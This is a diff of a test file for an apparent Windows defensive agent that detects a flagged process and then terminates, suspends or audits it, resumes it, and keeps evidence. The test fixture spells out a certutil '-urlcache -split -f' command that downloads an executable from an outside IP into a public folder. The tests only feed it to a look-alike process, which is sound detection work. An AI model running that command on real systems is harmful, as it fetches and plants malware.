@@ -5,10 +5,11 @@ import { join } from 'node:path';
 import { test } from 'node:test';
 import { toFileTime } from '../../../src/windows/filetime.ts';
 import { defaultFfi, ProcessControl } from '../../../src/windows/index.ts';
-import { AgentFolder, until } from './agent-process.ts';
+import { AgentFolder } from './agent-process.ts';
 import { DoubleScript } from './double-script.ts';
 import { LookAlike } from './look-alike.ts';
 import { openTestLibrary } from './open-test-library.ts';
+import { until, untilFound } from './until.ts';
 
 /*
  * The whole agent, in a process of its own, on real processes of this machine: their starts reach it through the
@@ -16,16 +17,23 @@ import { openTestLibrary } from './open-test-library.ts';
  */
 const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
 const secondTicks = 10_000_000n;
-/** Long enough to see that a process stands still, on a machine that does other work as well. */
-const holdMs = 8_000;
+const holdMs = 3_000;
+/** No machine that does other work stops a process this long. */
+const shortestHoldMs = 2_000;
 
 const control = new ProcessControl(await openTestLibrary(defaultFfi()));
 
 /** An agent with its configuration, and the events that it gets. */
 interface Trial {
   readonly folder: AgentFolder;
-  /** Starts a look-alike of which the agent learns, with a creation time that is off by this much. */
-  startVictim(laterTicks?: bigint): Promise<LookAlike>;
+  /**
+   * Starts a look-alike of which the agent learns, with a creation time that is off by `laterTicks`; `before` is done
+   * before it learns.
+   */
+  startVictim(options?: {
+    readonly laterTicks?: bigint;
+    readonly before?: (victim: LookAlike) => void;
+  }): Promise<LookAlike>;
 }
 
 /** The parent is known before a child starts; without it the evidence would be incomplete. */
@@ -48,8 +56,9 @@ async function withAgent(
     await sayParent(etw, folder);
     await use({
       folder,
-      async startVictim(laterTicks) {
+      async startVictim({ laterTicks, before } = {}) {
         const victim = new LookAlike('certutil.exe', attack);
+        before?.(victim);
         await victim.sayStart(etw, control, laterTicks);
         return victim;
       },
@@ -85,14 +94,14 @@ async function entityOf(folder: AgentFolder, { pid }: LookAlike): Promise<string
 
 test('armed to terminate: the flagged process is ended, the same pid of another creation time is not', async () => {
   await withAgent({ mode: 'terminate' }, async ({ folder, startVictim }) => {
-    const other = await startVictim(-secondTicks);
+    const other = await startVictim({ laterTicks: -secondTicks });
     assert.deepEqual(await actionsOn(folder, other), [
       ['terminate', 'failure', 'refused', 'PC_REFUSED_IDENTITY'],
     ]);
     const victim = await startVictim();
     assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'success', 'terminated']]);
     await until('its end', () => victim.hasEnded);
-    assert.ok(await other.beats(), 'the other process is untouched');
+    await other.untilItBeats();
   });
 });
 
@@ -101,29 +110,22 @@ test('what it was and what the event log says of it is kept of a process that is
   eventLog.say('channel', 'Security', 'enabled');
   const kept = join(mkdtempSync(join(tmpdir(), 'kept-')), 'evidence');
   await withAgent({ mode: 'terminate', evidence: { folder: kept } }, async ({ folder, startVictim }) => {
-    const victim = await startVictim();
-    const id = `0x${victim.pid.toString(16)}`;
-    const now = toFileTime(Date.now()).toString();
-    eventLog.say(
-      'record',
-      'Security',
-      4688,
-      1,
-      now,
-      `NewProcessId:h=${id}`,
-      'CommandLine=certutil -urlcache',
-    );
+    const victim = await startVictim({
+      before({ pid }) {
+        const now = toFileTime(Date.now()).toString();
+        const fields = [`NewProcessId:h=0x${pid.toString(16)}`, 'CommandLine=certutil -urlcache'];
+        eventLog.say('record', 'Security', 4688, 1, now, ...fields);
+      },
+    });
     assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'success', 'terminated']]);
-    await until(
-      'the bundle',
-      () => existsSync(kept) && readdirSync(kept).some((name) => /^[0-9a-f]{32}$/.test(name)),
+    const name = await untilFound('the bundle', () =>
+      existsSync(kept) ? readdirSync(kept).find((each) => /^[0-9a-f]{32}$/.test(each)) : undefined,
     );
     const { stdout } = await folder.ask('evidence', 'list', '--output', 'ndjson');
     const bundle = stdout.slice(0, stdout.indexOf('\n'));
     assert.match(bundle, /"file":"image\.gz"/);
     assert.match(bundle, /"file":"event-log\.ndjson"/);
-    const [name] = readdirSync(kept);
-    const line = readFileSync(join(kept, name!, 'event-log.ndjson'), 'utf8');
+    const line = readFileSync(join(kept, name, 'event-log.ndjson'), 'utf8');
     assert.match((JSON.parse(line) as { event: { original: string } }).event.original, /certutil -urlcache/);
   });
 });
@@ -132,7 +134,7 @@ test('not armed: the flagged process is left alone, and what would have been don
   await withAgent({}, async ({ folder, startVictim }) => {
     const victim = await startVictim();
     assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'unknown', 'audited']]);
-    assert.ok(await victim.beats());
+    await victim.untilItBeats();
     const journal = (await folder.ask('response', 'journal')).stdout.trim().split('\n');
     assert.equal(journal.length, 1);
     assert.match(journal[0]!, /"result":"audited"/);
@@ -143,11 +145,11 @@ test('armed to suspend: the flagged process stands still until a person resumes 
   await withAgent({ mode: 'suspend' }, async ({ folder, startVictim }) => {
     const victim = await startVictim();
     assert.deepEqual(await actionsOn(folder, victim), [['suspend', 'success', 'suspended']]);
-    assert.equal(await victim.beats(), false);
+    assert.ok(await victim.standsStill());
     assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":1\b/);
     const resumed = await folder.ask('process', 'resume', await entityOf(folder, victim), '--yes');
     assert.equal(resumed.exitCode, 0, `${resumed.stdout}${resumed.stderr}`);
-    await until('it goes on', () => victim.beats());
+    await victim.untilItBeats();
     assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":0\b/);
   });
 });
@@ -156,13 +158,14 @@ test('suspended first: not rare enough when the hold is over, the process goes o
   const response = { mode: 'terminate', suspendFirst: true, holdMs, holdMinRarity: 100 };
   await withAgent(response, async ({ folder, startVictim }) => {
     const victim = await startVictim();
-    assert.deepEqual(await actionsOn(folder, victim), [['suspend', 'success', 'suspended']]);
-    assert.equal(await victim.beats(), false);
     assert.deepEqual(await actionsOn(folder, victim, 2), [
       ['suspend', 'success', 'suspended'],
       ['resume', 'success', 'resumed'],
     ]);
-    await until('it goes on', () => victim.beats());
+    await victim.untilItBeats();
+    // By its own clock: whoever looks may do so too late.
+    const pauseMs = victim.longestPauseMs();
+    assert.ok(pauseMs >= shortestHoldMs, `it stood still for ${pauseMs} ms`);
   });
 });
 
@@ -189,11 +192,11 @@ test('what an agent that is gone had suspended, the next one resumes', async () 
     await actionsOn(folder, victim);
     agent.kill();
   });
-  assert.equal(await victim!.beats(), false);
+  assert.ok(await victim!.standsStill());
   await folder.whileRunning(async () => {
     const actions = await actionsOn(folder, victim!, 2);
     assert.deepEqual(actions[1], ['resume', 'success', 'resumed']);
-    await until('it goes on', () => victim!.beats());
+    await victim!.untilItBeats();
   });
 });
 
@@ -217,6 +220,6 @@ test('armed by a person for a time, and disarmed', async () => {
     assert.match(disarmed.stdout, /mode: audit/, disarmed.stderr);
     const second = await startVictim();
     assert.deepEqual(await actionsOn(folder, second), [['terminate', 'unknown', 'audited']]);
-    assert.ok(await second.beats());
+    await second.untilItBeats();
   });
 });
